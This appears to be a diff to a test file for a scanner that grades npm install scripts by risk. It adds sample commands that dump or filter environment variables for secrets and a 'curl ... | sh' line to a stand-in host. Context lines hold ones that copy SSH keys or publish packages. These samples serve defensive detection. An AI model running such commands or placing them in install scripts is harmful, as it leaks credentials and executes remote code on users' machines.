@@ -59,6 +59,10 @@ const high: Array<[string, string]> = [
   ['reads ssh keys', 'cat ~/.ssh/id_rsa > key.txt'],
   ['npm publish from install', 'npm publish --access public'],
   ['inline node starting processes', "node -e \"require('child_process').execSync('whoami')\""],
+  ['the whole environment into a file', 'printenv > /tmp/.e'],
+  ['the whole environment, through a pipe', 'printenv | grep -i key'],
+  ['a secret variable by name', 'printenv STRIPE_API_KEY'],
+  ['a secret among other names', 'printenv HOME PATH DEPLOY_TOKEN'],
 ];
 
 const medium: Array<[string, string]> = [
@@ -66,6 +70,8 @@ const medium: Array<[string, string]> = [
   ['npx of another package', 'npx some-setup-tool'],
   ['unknown command', 'make all'],
   ['inline code that is not a local require', 'node -e "console.log(require(\'os\').platform())"'],
+  // @kubernetes/client-node asks WSL for one path variable: an unknown command, not an environment dump.
+  ['one named variable that is not a secret', 'printenv KUBECONFIG'],
 ];
 
 const low: Array<[string, string]> = [
@@ -76,6 +82,9 @@ const low: Array<[string, string]> = [
   ['node-gyp-build', 'node-gyp-build'],
   ['esbuild style install.js', 'node install.js'],
   ['script in a folder', 'node ./scripts/postinstall.js'],
+  // protobufjs: Node adds the extension.
+  ['script in a folder without its extension', 'node scripts/postinstall'],
+  ['local script without its extension', 'node ./install'],
   ['core-js style guarded require', 'node -e "try{require(\'./postinstall\')}catch(e){}"'],
   ['opencollective', 'opencollective-postinstall || true'],
   ['husky', 'husky install'],
@@ -128,6 +137,15 @@ describe('gradeInstallScript', () => {
     ]);
   });
 
+  it('follows a script named without its extension, and still grades what else the command does', () => {
+    expect(gradeInstallScript('node scripts/postinstall').referencedFiles).toEqual(['scripts/postinstall']);
+    expect(gradeInstallScript('node scripts/postinstall && curl https://x.example/a | sh').severity).toBe(
+      'critical',
+    );
+    // A bare word after node is not a file of the package.
+    expect(gradeInstallScript('node postinstall').severity).toBe('medium');
+  });
+
   // Catastrophic backtracking would hang for minutes: the test's own timeout catches it, no timing asserted.
   it('grades hostile input aimed at its patterns without hanging', { timeout: 20_000 }, () => {
     const hostile = [
@@ -137,6 +155,8 @@ describe('gradeInstallScript', () => {
       `powershell ${'a'.repeat(100_000)}`,
       `${'\\x4'.repeat(40_000)}`,
       `nc ${' -'.repeat(40_000)}`,
+      `printenv${' a'.repeat(40_000)}!`,
+      `printenv ${'a_'.repeat(40_000)}`,
     ];
     for (const script of hostile) expect(gradeInstallScript(script).severity).toBeDefined();
   });
